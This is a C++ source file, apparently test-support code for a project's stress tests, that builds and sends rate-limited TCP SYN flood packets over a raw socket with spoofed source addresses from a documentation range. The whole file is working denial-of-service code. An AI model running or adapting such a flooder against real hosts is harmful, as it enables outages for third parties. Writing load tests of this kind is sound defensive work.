// The SYN flood. Run by a thread of siege. It must never send more than its limit, nor from an address that
// somebody has.
#include "tests/support/siege_syn.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>

#include <algorithm>
#include <chrono>
#include <cstring>
#include <random>
#include <span>
#include <thread>

namespace imrs::siege {
namespace {

constexpr std::uint32_t kNobody = 0xcb007180;  // 203.0.113.128
constexpr std::uint32_t kNobodies = 127;
constexpr std::uint64_t kAtOnce = 100;         // after a hold-up
constexpr std::chrono::milliseconds kTick{2};  // the rate is kept by the clock: what is due, then a sleep

struct Syn {
  iphdr ip;
  tcphdr tcp;
};
static_assert(sizeof(Syn) == 40);

// What the TCP checksum covers before the segment (RFC 9293 section 3.1).
struct PseudoHeader {
  std::uint32_t source, target;
  std::uint16_t protocol, length;
};

// RFC 1071, of structures of an even size.
template <typename Part>
std::uint32_t sum_of(const Part& part) {
  static_assert(sizeof(Part) % 2 == 0);
  std::uint32_t sum = 0;
  for (std::size_t at = 0; at < sizeof part; at += 2) {
    std::uint16_t word = 0;
    std::memcpy(&word, reinterpret_cast<const char*>(&part) + at, sizeof word);
    sum += word;
  }
  return sum;
}

std::uint16_t folded(std::uint32_t sum) {
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >> 16);
  return static_cast<std::uint16_t>(~sum);
}

// The kernel fills in the IP header's length, ID and checksum (raw(7)).
Syn make_syn(const sockaddr_in& target, std::mt19937& dice) {
  Syn syn{};
  syn.ip.version = 4;
  syn.ip.ihl = 5;
  syn.ip.ttl = 64;
  syn.ip.protocol = IPPROTO_TCP;
  syn.ip.saddr = htonl(kNobody + static_cast<std::uint32_t>(dice() % kNobodies));
  syn.ip.daddr = target.sin_addr.s_addr;
  syn.tcp.source = htons(static_cast<std::uint16_t>(1024 + dice() % 64000));
  syn.tcp.dest = target.sin_port;
  syn.tcp.seq = static_cast<std::uint32_t>(dice());
  syn.tcp.doff = 5;
  syn.tcp.syn = 1;
  syn.tcp.window = htons(65535);
  const PseudoHeader pseudo{syn.ip.saddr, syn.ip.daddr, htons(IPPROTO_TCP), htons(sizeof syn.tcp)};
  syn.tcp.check = folded(sum_of(pseudo) + sum_of(syn.tcp));
  return syn;
}

}  // namespace

std::uint64_t flood(const Endpoint& target, double rate, std::uint64_t limit, const std::atomic<bool>& stop) {
  if (rate <= 0) return 0;
  const UniqueFd fd(::socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC | SOCK_NONBLOCK, IPPROTO_RAW));
  if (!fd) die("raw socket");
  sockaddr_in to{};
  std::memcpy(&to, &target.storage, sizeof to);
  std::mt19937 dice(2);  // NOLINT: the same flood every time
  std::uint64_t sent = 0;
  double allowance = 0;
  std::uint64_t last = now_us();
  while (!stop.load(std::memory_order_relaxed) && sent < limit) {
    std::this_thread::sleep_for(kTick);
    const std::uint64_t now = now_us();
    allowance = std::min(allowance + static_cast<double>(now - last) * rate / 1e6,
                         static_cast<double>(kAtOnce));
    last = now;
    for (; allowance >= 1 && sent < limit; allowance -= 1) {
      const Syn syn = make_syn(to, dice);
      const ssize_t n = ::sendto(fd.get(), &syn, sizeof syn, 0, reinterpret_cast<const sockaddr*>(&to),
                                 sizeof to);
      sent += n > 0 ? 1 : 0;
    }
  }
  return sent;
}

}  // namespace imrs::siege
